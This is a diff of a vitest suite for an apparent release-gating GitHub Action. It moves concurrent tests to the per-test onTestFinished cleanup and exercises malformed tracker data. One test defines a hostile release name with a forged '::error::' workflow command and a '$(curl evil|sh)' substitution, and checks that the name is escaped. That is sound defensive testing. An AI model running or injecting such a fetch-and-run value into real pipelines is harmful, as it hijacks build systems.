@@ -1,5 +1,5 @@
 import { createServer } from 'node:net';
-import { describe, expect, it, onTestFinished } from 'vitest';
+import { describe, expect, it } from 'vitest';
 import { getScenario, startLocalTracker } from '../../src/local-tracker';
 import { gateFlags, runCli } from '../cli/run-cli';
 import { startGitHubStub } from '../helpers/github-stub';
@@ -65,7 +65,8 @@ describe.concurrent('bad configuration through the bundled action', () => {
 });
 
 describe.concurrent('a sentry-url given as the API address (bundled action)', () => {
-  it('a trailing /api/0/ is dropped: the release is registered and watched, not "organization not found"', async () => {
+  // The context's onTestFinished: the global one, in a concurrent describe, can run another test's cleanup.
+  it('a trailing /api/0/ is dropped: the release is registered and watched, not "organization not found"', async ({ onTestFinished }) => {
     const tracker = await startLocalTracker({ scenario: 'healthy', token: SENTRY_TOKEN, minuteMs: 1000 });
     onTestFinished(() => tracker.close());
     const { run } = await gate('healthy', { tracker, inputs: { 'sentry-url': `${tracker.url}/api/0/`, window: '4s' } });
@@ -149,7 +150,7 @@ describe.concurrent('a sentry-url that cannot be reached (bundled action)', () =
 });
 
 describe.concurrent('the previous release named by the tracker (bundled action)', () => {
-  it('a name with a newline, "::" and shell characters is not used nor dispatched: warned about, shown escaped', async () => {
+  it('a name with a newline, "::" and shell characters is not used nor dispatched: warned about, shown escaped', async ({ onTestFinished }) => {
     const hostile = 'shop-web@1.4.0\n::error::forged $(curl evil|sh)';
     const scenario = { ...getScenario('crash-spike'), previousRelease: { version: hostile, deployedMinutesBeforeStart: 180 } };
     const tracker = await startLocalTracker({ scenario, token: SENTRY_TOKEN, minuteMs: 1000 });
